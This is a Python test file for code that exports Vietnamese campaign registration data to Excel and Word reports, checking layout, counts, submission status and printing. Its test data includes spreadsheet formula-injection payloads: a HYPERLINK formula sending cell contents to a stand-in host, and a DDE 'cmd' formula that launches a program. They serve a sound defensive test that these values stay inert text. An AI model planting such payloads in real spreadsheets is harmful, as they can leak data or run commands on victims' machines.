"""The consolidated workbook and document: layout, counts, status, printing, formula injection."""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailbot.campaign.export import (
    ExportModel,
    FormStatus,
    UnitStatusRow,
    write_consolidated_docx,
    write_consolidated_xlsx,
)
from rules.campaign import newest_campaign

FIELDS = ("economy", "culture_society", "security_defense", "political_system")
FIELD_HEADERS = [
    "Lĩnh vực kinh tế",
    "Lĩnh vực văn hóa - xã hội",
    "Lĩnh vực an ninh quốc phòng",
    "Lĩnh vực xây dựng hệ thống chính trị",
]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]
GENERATED = datetime(2022, 2, 22, 1, 0, tzinfo=UTC)  # 08:00 in Hanoi


def M(code, name, form, kind, field, who, model, note=None):  # noqa: N802 - a short test builder
    return ExportModel(code, name, form, kind, field, None, who, model, note)


KT, HPN, DTN = "Đảng ủy phường Khương Trung", "Hội Liên hiệp Phụ nữ quận", "Quận đoàn Thanh Xuân"
MODELS = [
    # given out of unit order on purpose: the workbook groups them by unit (register order)
    M(
        "KT",
        KT,
        "M1",
        "collective",
        "culture_society",
        "Chi bộ Tổ dân phố số 5",
        "- Tổ dân phố xanh - sạch - đẹp",
    ),
    M(
        "HPN",
        HPN,
        "M1",
        "collective",
        "economy",
        "Chi hội Phụ nữ số 3",
        "Nuôi heo đất giúp hội viên",
    ),
    M("KT", KT, "M1", "individual", "economy", "Nguyễn Văn An", INJECTIONS[0], note="+1"),
    M("HPN", HPN, "M1", "collective", "political_system", "Chi hội Phụ nữ số 7", "-2"),
    M("KT", KT, "M1", "collective", "security_defense", "Chi bộ Tổ dân phố số 9", "@SUM(A1:A9)"),
    M("HPN", HPN, "M1", "individual", "culture_society", "Trần Thị Bình", "Câu lạc bộ dưỡng sinh"),
    M("HPN", HPN, "M2", "collective", "economy", "Chi hội 1", "\t=1+1"),
    M(
        "DTN",
        DTN,
        "M2",
        "individual",
        "political_system",
        "Lê Văn Cường",
        "=cmd|' /C calc'!A0",
        note="@note",
    ),
    M("KT", KT, "M2", "collective", "security_defense", "Tổ bảo vệ dân phố", "Camera an ninh"),
]
STATUSES = [
    UnitStatusRow(
        "HPN",
        HPN,
        "errors",
        {
            "M1": FormStatus(
                datetime(2022, 2, 14, 2, 30, tzinfo=UTC),
                False,
                4,
                1,
                ["Dòng 5: thiếu tên mô hình", "=Tổng không khớp"],
                "=phunu@example.vn",
            ),
            "M2": FormStatus(datetime(2022, 2, 15, 9, 0), False, 1, 0, [], "phunu@example.vn"),
        },
    ),
    UnitStatusRow(
        "KT",
        KT,
        "complete",
        {
            "M1": FormStatus(
                datetime(2022, 2, 21, 2, 30, tzinfo=UTC), True, 3, 0, [], "kt@example.vn"
            ),
            "M2": FormStatus(
                datetime(2022, 2, 19, 23, 59, tzinfo=timezone(timedelta(hours=7))),
                False,
                1,
                0,
                [],
                "kt@example.vn",
            ),
        },
    ),
    UnitStatusRow(
        "DTN",
        DTN,
        "partial",
        {
            "M1": None,
            "M2": FormStatus(
                datetime(2022, 2, 10, 1, 0, tzinfo=UTC), False, 1, 0, [], "doan@example.vn"
            ),
        },
    ),
    UnitStatusRow("MTTQ", "Ủy ban MTTQ quận", "missing", {"M1": None, "M2": None}),
    UnitStatusRow("CCB", "Hội Cựu chiến binh quận", "awaiting-confirmation", {}),
]
UNIT_RANK = {s.unit_code: i for i, s in enumerate(STATUSES)}


@pytest.fixture(scope="module")
def campaign():
    return newest_campaign()


@pytest.fixture(scope="module")
def xlsx(campaign) -> bytes:
    return write_consolidated_xlsx(MODELS, STATUSES, campaign, GENERATED)


@pytest.fixture(scope="module")
def wb(xlsx):
    return openpyxl.load_workbook(io.BytesIO(xlsx))


def _rows(ws) -> list[list]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _level(ws) -> dict:
    """Split a level sheet into header position, the rows of each section and the TỔNG row."""
    rows = _rows(ws)
    head = next(i for i, r in enumerate(rows) if r[0] == "TT")
    sections: dict[str, list[list]] = {}
    current = None
    for r in rows[head + 2 :]:
        if r[0] in ("I", "II"):
            current = r[1]
            sections[current] = []
        elif r[1] == "TỔNG":
            return {"head": head + 1, "rows": rows, "sections": sections, "total": r}
        else:
            sections[current].append(r)
    raise AssertionError("no TỔNG row")


def test_sheets(wb):
    assert wb.sheetnames == ["M1 - Cấp Quận", "M2 - Cấp cơ sở", "Tình hình nộp"]


@pytest.mark.parametrize(
    ("sheet", "form", "title"),
    [
        ("M1 - Cấp Quận", "M1", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP QUẬN"),
        ("M2 - Cấp cơ sở", "M2", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP CƠ SỞ"),
    ],
)
def test_level_sheet_layout_and_counts(wb, sheet, form, title):
    ws = wb[sheet]
    part = _level(ws)
    rows, head = part["rows"], part["head"]
    flat = [v for r in rows for v in r if isinstance(v, str)]
    assert "BIỂU TỔNG HỢP" in flat and title in flat
    assert "THỰC HIỆN PHONG TRÀO THI ĐUA “DÂN VẬN KHÉO” NĂM 2022" in flat
    assert form in rows[0]
    assert "Số liệu đến 22/02/2022 08:00" in flat

    top, second = rows[head - 1], rows[head]
    assert top[:4] == ["TT", "Tên tập thể, cá nhân", "Đơn vị", "Tên mô hình đăng ký “Dân vận khéo”"]
    assert top[-1] == "Ghi chú"
    assert second[3:7] == FIELD_HEADERS
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {
        f"A{head}:A{head + 1}",
        f"B{head}:B{head + 1}",
        f"C{head}:C{head + 1}",
        f"D{head}:G{head}",
        f"H{head}:H{head + 1}",
    } <= merged

    mine = [m for m in MODELS if m.form == form]
    assert list(part["sections"]) == ["Tập thể", "Cá nhân"]
    for label, kind in (("Tập thể", "collective"), ("Cá nhân", "individual")):
        got = part["sections"][label]
        expected = [m for m in mine if m.kind == kind]
        assert [r[0] for r in got] == [str(n) for n in range(1, len(expected) + 1)]
        # grouped by unit, in the order of the unit register (status rows)
        ranks = [UNIT_RANK[next(m.unit_code for m in expected if m.unit_name == r[2])] for r in got]
        assert ranks == sorted(ranks)
        # every model once, in its field column, with its unit, name and note
        seen = set()
        for r in got:
            fields = [i for i in range(3, 7) if r[i] is not None]
            assert len(fields) == 1
            seen.add((r[2], r[1], FIELDS[fields[0] - 3], r[fields[0]], r[7]))
        assert seen == {(m.unit_name, m.name, m.field, m.model, m.note) for m in expected}

    counts = Counter(m.field for m in mine)
    assert part["total"][3:7] == [counts[f] for f in FIELDS]
    assert part["total"][7] == len(mine)


def test_status_sheet(wb):
    ws = wb["Tình hình nộp"]
    rows = _rows(ws)
    head = next(i for i, r in enumerate(rows) if r[0] == "Mã")
    assert rows[head][:3] == ["Mã", "Đơn vị", "Tình trạng"]
    assert rows[head][3].startswith("M1") and rows[head][8].startswith("M2")
    sub = rows[head + 1][3:8]
    assert sub == ["Nhận lúc", "Nộp muộn", "Số mô hình", "Vấn đề", "Người gửi"]
    body = {r[0]: r for r in rows[head + 2 : head + 2 + len(STATUSES)]}
    assert list(body) == [s.unit_code for s in STATUSES]

    states = {code: r[2] for code, r in body.items()}
    assert states == {
        "HPN": "Có lỗi",
        "KT": "Đã đủ",
        "DTN": "Còn thiếu",
        "MTTQ": "Chưa nộp",
        "CCB": "Chờ xác nhận",
    }
    hpn = body["HPN"]
    assert hpn[1] == HPN
    assert hpn[3:8] == [
        "14/02/2022 09:30",
        None,
        4,
        "- Dòng 5: thiếu tên mô hình\n- =Tổng không khớp",
        "=phunu@example.vn",
    ]
    assert hpn[8] == "15/02/2022 16:00"  # a naive time is UTC
    kt = body["KT"]
    assert kt[3:6] == ["21/02/2022 09:30", "Muộn", 3]
    assert kt[8] == "19/02/2022 23:59"  # an aware time converted to Asia/Ho_Chi_Minh
    assert body["DTN"][3] == "Chưa nộp" and body["DTN"][8] == "10/02/2022 08:00"
    assert body["MTTQ"][3] == body["MTTQ"][8] == "Chưa nộp"
    summary = " ".join(v for r in rows[head + 2 + len(STATUSES) :] for v in r if isinstance(v, str))
    assert "Đã đủ: 1" in summary and "Chưa nộp: 1" in summary and "Tổng số 5 đơn vị" in summary


def test_error_count_without_details_is_shown(campaign):
    row = UnitStatusRow(
        "A",
        "Đơn vị A",
        "errors",
        {"M1": FormStatus(datetime(2022, 2, 1, tzinfo=UTC), False, 0, 2, [], "a@example.vn")},
    )
    data = write_consolidated_xlsx([], [row], campaign, GENERATED)
    rows = _rows(openpyxl.load_workbook(io.BytesIO(data))["Tình hình nộp"])
    unit = next(r for r in rows if r[0] == "A")
    assert unit[2] == "Có lỗi"
    assert unit[3:8] == ["01/02/2022 07:00", None, 0, "2 lỗi", "a@example.vn"]
    assert unit[8] == "Chưa nộp"


def test_formula_injection_stays_text(xlsx, wb):
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t")):
                    found[value] = cell
    for text in [*INJECTIONS, "- Tổ dân phố xanh - sạch - đẹp", "@note", "=phunu@example.vn"]:
        cell = found[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
    # The package holds no formula at all, and the dangerous cells are inline strings.
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml
            assert "HYPERLINK" not in xml or 't="inlineStr"><is><t>=HYPERLINK' in xml
    assert found["+1"].coordinate.startswith("H")  # the note column


def test_print_settings(wb):
    for ws in wb:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
        assert re.fullmatch(r"\$\d+:\$\d+", ws.print_title_rows or ""), ws.title
        assert ws.freeze_panes is not None
        assert ws.print_area
        widths = [ws.column_dimensions[c].width for c in "ABCDEFGH"]
        assert min(widths) >= 6 and max(widths) >= 25
    ws = wb["M1 - Cấp Quận"]
    part = _level(ws)
    model_row = next(i for i, r in enumerate(part["rows"], start=1) if r[1] == "Nguyễn Văn An")
    cell = ws.cell(row=model_row, column=4)
    assert cell.alignment.wrap_text
    assert cell.font.name == "Times New Roman"
    assert all(
        s.style == "thin"
        for s in (cell.border.left, cell.border.right, cell.border.top, cell.border.bottom)
    )
    assert ws.row_dimensions[model_row].height >= 15


def test_same_input_same_bytes(xlsx, campaign):
    again = write_consolidated_xlsx(MODELS, STATUSES, campaign, GENERATED)
    assert again == xlsx
    props = openpyxl.load_workbook(io.BytesIO(xlsx)).properties
    assert props.created == props.modified == datetime(2022, 2, 22, 1, 0)


def test_empty_campaign_and_hostile_characters(campaign):
    data = write_consolidated_xlsx([], [], campaign, GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for name in ("M1 - Cấp Quận", "M2 - Cấp cơ sở"):
        part = _level(wb[name])
        assert part["sections"] == {"Tập thể": [], "Cá nhân": []}
        assert part["total"][3:8] == [0, 0, 0, 0, 0]

    nasty = M(
        "X\x00", "Đơn vị\x07 lạ", "M1", "collective", "economy", "Tên\x1b", "Mô\x0bhình " * 5000
    )
    data = write_consolidated_xlsx([nasty], [], campaign, GENERATED)
    part = _level(openpyxl.load_workbook(io.BytesIO(data))["M1 - Cấp Quận"])
    row = part["sections"]["Tập thể"][0]
    assert row[1:3] == ["Tên", "Đơn vị lạ"]
    assert row[3].startswith("Môhình") and len(row[3]) <= 32767
    assert write_consolidated_docx([nasty], [], campaign, GENERATED)[:2] == b"PK"


def test_invalid_records_are_refused():
    with pytest.raises(ValueError):
        M("A", "A", "M1", "group", "economy", "x", "y")
    with pytest.raises(ValueError):
        M("A", "A", "M1", "collective", "kinh tế", "x", "y")


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["A", "B", "C"]),
            st.sampled_from(["M1", "M2"]),
            st.sampled_from(["collective", "individual"]),
            st.sampled_from(FIELDS),
            st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t"]), TEXT).map("".join),
        ),
        max_size=15,
    )
)
def test_counts_and_texts_survive_any_input(items):
    campaign = newest_campaign()
    models = [
        M(u, f"Đơn vị {u}", form, kind, field, f"Tên {i}", text)
        for i, (u, form, kind, field, text) in enumerate(items)
    ]
    data = write_consolidated_xlsx(models, [], campaign, GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for form, sheet in (("M1", "M1 - Cấp Quận"), ("M2", "M2 - Cấp cơ sở")):
        part = _level(wb[sheet])
        mine = [m for m in models if m.form == form]
        counts = Counter(m.field for m in mine)
        assert part["total"][3:8] == [*(counts[f] for f in FIELDS), len(mine)]
        got = sorted(
            (r[1], next((v for v in r[3:7] if v is not None), ""))
            for rows in part["sections"].values()
            for r in rows
        )
        assert got == sorted((m.name, m.model) for m in mine)


def _docx_tables(data: bytes):
    document = docx.Document(io.BytesIO(data))
    level = [t for t in document.tables if t.cell(0, 0).text == "TT"]
    status = [t for t in document.tables if t.cell(0, 0).text == "Mã"]
    return document, level, status


def test_docx_has_the_same_tables(campaign):
    data = write_consolidated_docx(MODELS, STATUSES, campaign, GENERATED)
    assert data == write_consolidated_docx(MODELS, STATUSES, campaign, GENERATED)
    document, level, status = _docx_tables(data)
    assert len(level) == 2 and len(status) == 1
    section = document.sections[0]
    assert section.page_width > section.page_height
    assert abs(section.page_width.cm - 29.7) < 0.05

    pars = [p.text for p in document.paragraphs]
    assert "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP QUẬN" in pars
    assert "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP CƠ SỞ" in pars

    for table, form in zip(level, ("M1", "M2"), strict=True):
        rows = [[c.text for c in r.cells] for r in table.rows]
        assert rows[0][:3] == ["TT", "Tên tập thể, cá nhân", "Đơn vị"]
        assert rows[1][3:7] == FIELD_HEADERS
        assert table.cell(0, 3)._tc is table.cell(0, 6)._tc
        for col in (0, 1, 2, 7):
            assert table.cell(0, col)._tc is table.cell(1, col)._tc
        for r in table.rows[:2]:
            assert r._tr.trPr.find(qn("w:tblHeader")) is not None
        mine = [m for m in MODELS if m.form == form]
        body = [r for r in rows[2:] if r[0] not in ("I", "II") and r[1] != "TỔNG"]
        assert sorted((r[1], r[2]) for r in body) == sorted((m.name, m.unit_name) for m in mine)
        for m in mine:
            assert any(r[3 + FIELDS.index(m.field)] == m.model for r in body)
        counts = Counter(m.field for m in mine)
        assert rows[-1][1] == "TỔNG"
        assert rows[-1][3:7] == [str(counts[f]) for f in FIELDS]
        assert rows[-1][7] == f"Cộng: {len(mine)}"

    rows = [[c.text for c in r.cells] for r in status[0].rows]
    assert [r[0] for r in rows[2:]] == [s.unit_code for s in STATUSES]
    assert [r[2] for r in rows[2:]] == ["Có lỗi", "Đã đủ", "Còn thiếu", "Chưa nộp", "Chờ xác nhận"]
    assert rows[3][3:6] == ["21/02/2022 09:30", "Muộn", "3"]
    for r in status[0].rows[:2]:
        assert r._tr.trPr.find(qn("w:tblHeader")) is not None
